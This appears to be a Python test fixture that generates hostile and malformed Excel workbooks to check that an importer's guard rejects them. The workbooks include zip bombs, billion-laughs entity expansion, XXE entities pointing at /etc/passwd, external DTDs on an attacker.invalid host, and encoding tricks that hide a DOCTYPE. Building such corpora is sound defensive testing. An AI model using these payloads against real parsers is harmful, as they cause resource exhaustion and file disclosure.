"""Hostile and broken workbooks, generated at test time (binary files are never committed).

`build(folder)` writes every case and returns {name: path}; `python tests/hostile_corpus.py OUT` writes
them to OUT to try by hand (`scenmatrix import OUT/zip_bomb.xlsx`). REFUSED cases must be refused by
`xlsx_guard`; ODD cases are strange but harmless and must open. Most cases start from a small real
workbook saved by openpyxl and change one thing: a part, a header field, a few bytes.
"""

from __future__ import annotations

import functools
import io
import struct
import sys
import warnings
import zipfile
from pathlib import Path
from typing import Callable

import openpyxl

MB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
CHUNK = 256 * 1024  # xlsx_guard's read size: one case puts a DOCTYPE across a chunk boundary

REFUSED: dict[str, Callable[[Path], None]] = {}
ODD: dict[str, Callable[[Path], None]] = {}


def refused(fn: Callable[[Path], None]) -> Callable[[Path], None]:
    REFUSED[fn.__name__] = fn
    return fn


def odd(fn: Callable[[Path], None]) -> Callable[[Path], None]:
    ODD[fn.__name__] = fn
    return fn


def build(folder: Path) -> dict[str, Path]:
    """Write every case as folder/<name>.xlsx (the missing case is not written) and return the paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, make in {**REFUSED, **ODD}.items():
        paths[name] = folder / f"{name}.xlsx"
        make(paths[name])
    return paths


# --- building blocks -------------------------------------------------------------------------------

def base_parts() -> dict[str, bytes]:
    """The parts of a small valid workbook saved by openpyxl: 'Impacts' with text in A1 and B2."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Impacts"
    ws["A1"], ws["B2"] = "actor", "hello"
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(buffer) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def base_xlsx() -> bytes:
    return zip_bytes(base_parts())


def zip_bytes(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def with_sheet(xml: bytes) -> bytes:
    """The base workbook with sheet1.xml replaced."""
    return zip_bytes({**base_parts(), SHEET: xml})


def sheet_xml(cell_b2: str, prolog: str = "") -> bytes:
    """A worksheet whose B2 holds inline text (entity references are left as written)."""
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN}"><sheetData>'
            f'<row r="2"><c r="B2" t="inlineStr"><is><t>{cell_b2}</t></is></c></row>'
            "</sheetData></worksheet>").encode()


def zeros_member(zf: zipfile.ZipFile, name: str, size: int) -> None:
    """A member of `size` zero bytes, streamed so the generator never holds it in memory."""
    with zf.open(name, "w") as member:
        block = bytes(MB)
        for start in range(0, size, MB):
            member.write(block[:min(MB, size - start)])


def central(data: bytes, name: str) -> int:
    """Offset of name's central directory header (its name follows the 46-byte fixed part)."""
    at = data.rfind(name.encode()) - 46
    assert data[at:at + 4] == b"PK\x01\x02", name
    return at


def local(data: bytes, name: str) -> int:
    """Offset of name's local header (its name follows the 30-byte fixed part)."""
    at = data.find(name.encode()) - 30
    assert data[at:at + 4] == b"PK\x03\x04", name
    return at


def patched(data: bytes, *edits: tuple[int, str, int]) -> bytes:
    """data with struct-packed values written at offsets: (offset, format, value)."""
    out = bytearray(data)
    for offset, fmt, value in edits:
        struct.pack_into(fmt, out, offset, value)
    return bytes(out)


def ole2(*stream_names: str) -> bytes:
    """A minimal compound-file lookalike: the OLE2 signature, then directory entries naming the streams."""
    entries = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + bytes(64) for name in stream_names)
    return OLE2 + bytes(504) + entries.ljust(512, b"\0")


# --- refused ---------------------------------------------------------------------------------------

@refused
def missing(path: Path) -> None:
    """No file at all."""


@refused
def empty(path: Path) -> None:
    path.write_bytes(b"")


@refused
def csv_renamed(path: Path) -> None:
    path.write_text("scenario,actor,effect\nS1,RU,2\nS1,US,-2\n", encoding="utf-8")


@refused
def png_renamed(path: Path) -> None:
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))


@refused
def legacy_xls(path: Path) -> None:
    path.write_bytes(ole2("Root Entry", "Workbook", "\x05SummaryInformation"))


@refused
def encrypted(path: Path) -> None:
    """What Excel writes for a password-protected .xlsx: a compound file, not a zip."""
    path.write_bytes(ole2("Root Entry", "EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"))


@refused
def truncated(path: Path) -> None:
    data = base_xlsx()
    path.write_bytes(data[:len(data) // 2])


@refused
def damaged_directory(path: Path) -> None:
    """The end record survives but the central directory it points to is overwritten."""
    data = base_xlsx()
    at = data.find(b"PK\x01\x02")
    path.write_bytes(data[:at] + b"X" * 46 + data[at + 46:])


@refused
def plain_zip(path: Path) -> None:
    path.write_bytes(zip_bytes({"notes.txt": b"not a workbook"}))


@refused
def zip_without_workbook(path: Path) -> None:
    """Package-shaped ([Content_Types].xml, _rels) but no xl/workbook.xml, like a .docx renamed."""
    parts = base_parts()
    path.write_bytes(zip_bytes({name: data for name, data in parts.items() if name != "xl/workbook.xml"}))


@refused
def too_many_members(path: Path) -> None:
    parts = base_parts()
    parts.update({f"xl/media/pad{i}.bin": b"" for i in range(10_001)})
    path.write_bytes(zip_bytes(parts, zipfile.ZIP_STORED))


@refused
def zip64_too_many_members(path: Path) -> None:
    """Zip64 end records, with the classic record's count set to 0xFFFF ('see Zip64') as large archives do."""
    parts = base_parts()
    parts.update({f"xl/media/pad{i}.bin": b"" for i in range(10_001)})
    path.write_bytes(zip64(zip_bytes(parts, zipfile.ZIP_STORED)))


def zip64(data: bytes) -> bytes:
    """The same archive rewritten with Zip64 end records and 0xFFFF counts in the classic end record."""
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer := io.BytesIO(), "w") as target:
        saved, zipfile.ZIP_FILECOUNT_LIMIT = zipfile.ZIP_FILECOUNT_LIMIT, 0  # makes zipfile write Zip64 records
        try:
            for info in source.infolist():
                target.writestr(info, source.read(info))
            target.close()
        finally:
            zipfile.ZIP_FILECOUNT_LIMIT = saved
    out = buffer.getvalue()
    end = out.rfind(b"PK\x05\x06")
    return patched(out, (end + 8, "<H", 0xFFFF), (end + 10, "<H", 0xFFFF))


@refused
def zip_bomb(path: Path) -> None:
    """A valid workbook plus one sheet-named member of 300 MB of zeros: about 0.3 MB on disk (1000:1)."""
    path.write_bytes(_bomb())


@functools.lru_cache(maxsize=1)
def _bomb() -> bytes:  # three cases use it; deflating 300 MB takes a second
    with zipfile.ZipFile(buffer := io.BytesIO(), "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in base_parts().items():
            zf.writestr(name, data)
        zeros_member(zf, "xl/worksheets/sheet2.xml", 300 * MB)
    return buffer.getvalue()


@refused
def spread_bomb(path: Path) -> None:
    """60 members of 3.9 MB zeros, each under the ratio check's floor: only the total gives it away."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in base_parts().items():
            zf.writestr(name, data)
        for i in range(60):
            zeros_member(zf, f"xl/media/image{i}.png", 39 * MB // 10)


@refused
def overlapping_bomb(path: Path) -> None:
    """Fifield's non-recursive bomb, simplified: 100 directory entries share one 3 MB compressed kernel."""
    with zipfile.ZipFile(buffer := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as zf:
        zeros_member(zf, "xl/media/k000.bin", 3 * MB)
    data = buffer.getvalue()
    kernel_entry = central(data, "xl/media/k000.bin")
    kernel, entry = data[:kernel_entry], data[kernel_entry:data.find(b"PK\x05\x06")]
    # The workbook's members, then the kernel (local header and data), then every directory entry.
    base = base_xlsx()
    base_cd, base_end = base.find(b"PK\x01\x02"), base.find(b"PK\x05\x06")
    kernels = b"".join(patched(entry.replace(b"k000", f"k{i:03}".encode()), (42, "<L", base_cd)) for i in range(100))
    directory = base[base_cd:base_end] + kernels
    count = len(base_parts()) + 100
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), base_cd + len(kernel), 0)
    path.write_bytes(base[:base_cd] + kernel + directory + end)


@refused
def lying_size(path: Path) -> None:
    """The bomb again, but its directory claims the member is 1 KB: zipfile stops there and the CRC fails."""
    data = _bomb()
    at = central(data, "xl/worksheets/sheet2.xml")
    path.write_bytes(patched(data, (at + 24, "<L", 1024)))


@refused
def bad_crc(path: Path) -> None:
    data = base_xlsx()
    at = central(data, SHEET)
    (crc,) = struct.unpack_from("<L", data, at + 16)
    path.write_bytes(patched(data, (at + 16, "<L", crc ^ 0xFFFFFFFF)))


@refused
def corrupt_deflate(path: Path) -> None:
    """Bytes inside the compressed sheet overwritten, as a bad disk or a broken transfer would."""
    data = base_xlsx()
    start = local(data, SHEET) + 30 + len(SHEET)
    path.write_bytes(data[:start + 10] + b"\xff" * 40 + data[start + 50:])


@refused
def encrypted_member(path: Path) -> None:
    """Zip-level (ZipCrypto) encryption flagged on the sheet."""
    data = base_xlsx()
    path.write_bytes(patched(data, (central(data, SHEET) + 8, "<H", 0x1), (local(data, SHEET) + 6, "<H", 0x1)))


@refused
def unknown_compression(path: Path) -> None:
    """Method 99 (WinZip AES), which zipfile cannot decompress."""
    data = base_xlsx()
    path.write_bytes(patched(data, (central(data, SHEET) + 10, "<H", 99), (local(data, SHEET) + 8, "<H", 99)))


LAUGHS = ('<!DOCTYPE worksheet [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
          + "]>")


@refused
def billion_laughs(path: Path) -> None:
    """Nine levels of ten entity references: 10^9 'lol's from under 1 KB."""
    path.write_bytes(with_sheet(sheet_xml("&lol9;", LAUGHS)))


@refused
def billion_laughs_in_shared_strings(path: Path) -> None:
    path.write_bytes(_with_shared_string("&lol9;", LAUGHS))


@refused
def xxe(path: Path) -> None:
    """An external entity: a parser that resolves it puts /etc/passwd in cell B2."""
    path.write_bytes(with_sheet(sheet_xml("&xxe;", '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')))


@refused
def doctype_across_chunks(path: Path) -> None:
    """An external DTD (no entity) after a long comment, '<!DO' ending one of the guard's read chunks and
    'CTYPE' starting the next: found only if the search carries the end of each chunk into the next."""
    xml = sheet_xml("hello", '<!----><!DOCTYPE worksheet SYSTEM "http://attacker.invalid/evil.dtd">')
    padding = CHUNK - 4 - xml.index(b"<!DOCTYPE")
    xml = xml.replace(b"<!---->", b"<!--" + b"x" * padding + b"-->")
    assert xml.index(b"<!DOCTYPE") == CHUNK - 4 and xml.count(b"<!") == 2
    path.write_bytes(with_sheet(xml))


@refused
def doctype_utf16(path: Path) -> None:
    xml = sheet_xml("&xxe;", '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').decode()
    path.write_bytes(with_sheet(b"\xff\xfe" + xml.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le")))


@refused
def doctype_utf7(path: Path) -> None:
    """UTF-7 spells '<' as '+ADw-': a byte search for '<!DOCTYPE' cannot see it, so the encoding is refused."""
    xml = sheet_xml("&xxe;", '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').decode()
    xml = xml.replace("UTF-8", "UTF-7")
    hidden = xml.encode("utf-7").replace(b"<!", b"+ADw-!")
    assert hidden.decode("utf-7") == xml and b"<!DOCTYPE" not in hidden
    path.write_bytes(with_sheet(hidden))


@refused
def utf32_part(path: Path) -> None:
    path.write_bytes(with_sheet(sheet_xml("hello").decode().replace("UTF-8", "UTF-32").encode("utf-32")))


@refused
def doctype_in_content_types(path: Path) -> None:
    parts = base_parts()
    doctype = b'<!DOCTYPE Types SYSTEM "http://attacker.invalid/t.dtd">'
    parts["[Content_Types].xml"] = doctype + parts["[Content_Types].xml"]
    path.write_bytes(zip_bytes(parts))


@refused
def macros(path: Path) -> None:
    path.write_bytes(zip_bytes({**base_parts(), "xl/vbaProject.bin": OLE2 + bytes(504)}))


@refused
def external_link(path: Path) -> None:
    link = (f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships" r:id="rId1"/></externalLink>').encode()
    path.write_bytes(zip_bytes({**base_parts(), "xl/externalLinks/externalLink1.xml": link}))


@refused
def empty_workbook_part(path: Path) -> None:
    """xl/workbook.xml present but 0 bytes."""
    path.write_bytes(zip_bytes({**base_parts(), "xl/workbook.xml": b""}))


@refused
def duplicate_part(path: Path) -> None:
    """Two sheet1.xml members: zipfile reads the last, another parser might read the first."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in base_parts().items():
            zf.writestr(name, data)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
            zf.writestr(SHEET, sheet_xml("the other copy"))
    path.write_bytes(buffer.getvalue())


@refused
def malformed_xml(path: Path) -> None:
    """Passes every archive check; only the XML parser inside openpyxl finds the damage."""
    path.write_bytes(with_sheet(f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1'.encode()))


@refused
def missing_sheet_part(path: Path) -> None:
    """The workbook's relationships name a sheet part the archive lacks."""
    path.write_bytes(zip_bytes({k: v for k, v in base_parts().items() if k != SHEET}))


@refused
def duplicate_sheet_names(path: Path) -> None:
    """Two sheets titled 'Impacts' (Excel refuses this); openpyxl would rename the second 'Impacts1'."""
    parts = base_parts()
    sheet = parts["xl/workbook.xml"].split(b"<sheets>")[1].split(b"</sheets>")[0]
    twin = sheet.replace(b'sheetId="1"', b'sheetId="2"')
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(sheet, sheet + twin)
    path.write_bytes(zip_bytes(parts))


@refused
def huge_shared_string(path: Path) -> None:
    """40,000 characters in one cell: more than Excel holds; openpyxl reads it whole."""
    path.write_bytes(_with_shared_string("a" * 40_000))


def _with_shared_string(text: str, prolog: str = "") -> bytes:
    """The base workbook with B2 taken from a sharedStrings part (as Excel and LibreOffice write text)."""
    parts = base_parts()
    parts["xl/sharedStrings.xml"] = (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst xmlns="{MAIN}" '
                                     f'count="1" uniqueCount="1"><si><t>{text}</t></si></sst>').encode()
    parts[SHEET] = sheet_xml("").replace(b't="inlineStr"><is><t></t></is></c>', b't="s"><v>0</v></c>')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                             b'relationships/sharedStrings" Target="sharedStrings.xml" Id="rId99"/></Relationships>')
    return zip_bytes(parts)


# --- odd but harmless ------------------------------------------------------------------------------

@odd
def nested_zip_bomb(path: Path) -> None:
    """A zip bomb stored inside the workbook as an embedding: nothing unpacks nested archives."""
    path.write_bytes(zip_bytes({**base_parts(), "xl/embeddings/oleObject1.bin": _bomb()}, zipfile.ZIP_STORED))


@odd
def zip64_workbook(path: Path) -> None:
    """A normal workbook with Zip64 end records, as some writers produce for any size."""
    path.write_bytes(zip64(base_xlsx()))


@odd
def utf16_sheet(path: Path) -> None:
    """UTF-16 is legal XML and harmless: not refused, and every other byte is searched."""
    path.write_bytes(with_sheet(sheet_xml("hello").decode().replace("UTF-8", "UTF-16").encode("utf-16")))


@odd
def latin1_sheet(path: Path) -> None:
    path.write_bytes(with_sheet(sheet_xml("caf\xe9").decode().replace("UTF-8", "ISO-8859-1").encode("latin-1")))


@odd
def zero_byte_media(path: Path) -> None:
    path.write_bytes(zip_bytes({**base_parts(), "xl/media/image1.png": b""}))


@odd
def far_cell(path: Path) -> None:
    """Cells at A1 and XFD1048576: a used range of 17 billion cells, which nothing must walk."""
    xml = (f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
           '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>z</t></is></c></row></sheetData></worksheet>')
    path.write_bytes(with_sheet(xml.encode()))


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/hostile_corpus.py OUTDIR")
    for case, written in build(Path(sys.argv[1])).items():
        print(f"{case:32} {written.stat().st_size if written.exists() else '-':>10}  {written}")
